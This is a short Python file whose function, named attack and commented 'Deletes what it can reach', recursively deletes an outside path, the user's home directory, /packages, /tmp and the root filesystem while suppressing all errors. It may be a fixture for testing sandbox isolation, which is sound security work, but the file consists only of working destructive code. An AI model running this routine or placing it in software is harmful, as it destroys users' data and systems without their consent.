# Deletes what it can reach.
import os
import shutil


def attack(*arguments):
    for place in (OUTSIDE, os.path.expanduser("~"), "/packages", "/tmp", "/"):
        shutil.rmtree(place, ignore_errors=True)
